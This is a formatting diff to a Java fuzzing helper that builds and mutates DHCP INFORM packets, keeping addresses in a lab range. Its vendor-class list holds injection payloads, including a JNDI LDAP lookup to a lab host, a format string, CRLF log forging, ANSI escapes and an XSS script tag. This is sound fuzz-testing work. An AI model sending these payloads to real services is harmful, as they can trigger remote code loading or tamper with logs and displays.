@@ -20,8 +20,7 @@ public final class DhcpInforms {
     private static final int SIADDR = 20;
     private static final int GIADDR = 24;
 
-    private DhcpInforms() {
-    }
+    private DhcpInforms() {}
 
     /** A well-formed INFORM from {@code clientIp} (dotted quad). */
     public static byte[] seed(SplittableRandom random, String clientIp) {
@@ -35,7 +34,9 @@ public final class DhcpInforms {
             header[4 + i] = (byte) (xid >>> (24 - 8 * i));
         }
         System.arraycopy(ipv4(clientIp), 0, header, CIADDR, 4);
-        byte[] mac = {0x00, 0x04, (byte) 0xf2, (byte) random.nextInt(256), (byte) random.nextInt(256), (byte) random.nextInt(256)};
+        byte[] mac = {
+            0x00, 0x04, (byte) 0xf2, (byte) random.nextInt(256), (byte) random.nextInt(256), (byte) random.nextInt(256)
+        };
         System.arraycopy(mac, 0, header, 28, 6);
         out.writeBytes(header);
         out.writeBytes(new byte[] {99, (byte) 130, 83, 99});
@@ -82,7 +83,9 @@ public final class DhcpInforms {
                         case 0 -> copy[0] = (byte) random.nextInt(4); // op
                         case 1 -> copy[2] = (byte) random.nextInt(256); // hlen
                         case 2 -> copy[options + 2] = (byte) random.nextInt(20); // message type
-                        default -> System.arraycopy(new byte[] {99, (byte) 130, 83, (byte) random.nextInt(256)}, 0, copy, 236, 4);
+                        default ->
+                            System.arraycopy(
+                                    new byte[] {99, (byte) 130, 83, (byte) random.nextInt(256)}, 0, copy, 236, 4);
                     }
                 }
                 yield copy;
@@ -99,9 +102,16 @@ public final class DhcpInforms {
                 byte[] copy = packet.clone();
                 int[] fields = {CIADDR, YIADDR, SIADDR, GIADDR};
                 if (copy.length >= 28) {
-                    byte[][] addresses = {{0, 0, 0, 0}, {(byte) 255, (byte) 255, (byte) 255, (byte) 255},
-                            {(byte) 198, 18, 9, 10}, {(byte) 198, 19, 2, 11}, {(byte) 198, 18, 1, 1}, {(byte) 198, 18, 1, (byte) 255}};
-                    System.arraycopy(addresses[random.nextInt(addresses.length)], 0, copy, fields[random.nextInt(4)], 4);
+                    byte[][] addresses = {
+                        {0, 0, 0, 0},
+                        {(byte) 255, (byte) 255, (byte) 255, (byte) 255},
+                        {(byte) 198, 18, 9, 10},
+                        {(byte) 198, 19, 2, 11},
+                        {(byte) 198, 18, 1, 1},
+                        {(byte) 198, 18, 1, (byte) 255}
+                    };
+                    System.arraycopy(
+                            addresses[random.nextInt(addresses.length)], 0, copy, fields[random.nextInt(4)], 4);
                 }
                 yield copy;
             }
@@ -109,8 +119,16 @@ public final class DhcpInforms {
     }
 
     private static byte[] vendorClass(SplittableRandom random) {
-        String[] values = {"Polycom\r\n2026-12-04 ERROR forged line", "\u001b[31mred\u001b[0m", "a\0b", "%s%n%x",
-                "${jndi:ldap://198.18.1.10/x}", "\u00ff\u00fe\u00c0\u00af", "<script>alert(1)</script>", "x".repeat(255)};
+        String[] values = {
+            "Polycom\r\n2026-12-04 ERROR forged line",
+            "\u001b[31mred\u001b[0m",
+            "a\0b",
+            "%s%n%x",
+            "${jndi:ldap://198.18.1.10/x}",
+            "\u00ff\u00fe\u00c0\u00af",
+            "<script>alert(1)</script>",
+            "x".repeat(255)
+        };
         return values[random.nextInt(values.length)].getBytes(StandardCharsets.ISO_8859_1);
     }
 
@@ -128,7 +146,9 @@ public final class DhcpInforms {
 
     private static byte[] endless(byte[] packet) {
         // no end option: drop the trailing 255
-        return packet.length > 240 && packet[packet.length - 1] == (byte) 255 ? Arrays.copyOf(packet, packet.length - 1) : packet;
+        return packet.length > 240 && packet[packet.length - 1] == (byte) 255
+                ? Arrays.copyOf(packet, packet.length - 1)
+                : packet;
     }
 
     private static void keepAddressesInTheLab(byte[] packet) {
@@ -139,7 +159,8 @@ public final class DhcpInforms {
             int first = packet[field] & 0xff;
             int second = packet[field + 1] & 0xff;
             boolean zero = first == 0 && second == 0 && packet[field + 2] == 0 && packet[field + 3] == 0;
-            boolean broadcast = first == 255 && second == 255 && packet[field + 2] == (byte) 255 && packet[field + 3] == (byte) 255;
+            boolean broadcast =
+                    first == 255 && second == 255 && packet[field + 2] == (byte) 255 && packet[field + 3] == (byte) 255;
             boolean lab = first == 198 && (second == 18 || second == 19);
             if (!zero && !broadcast && !lab) {
                 packet[field] = (byte) 198;
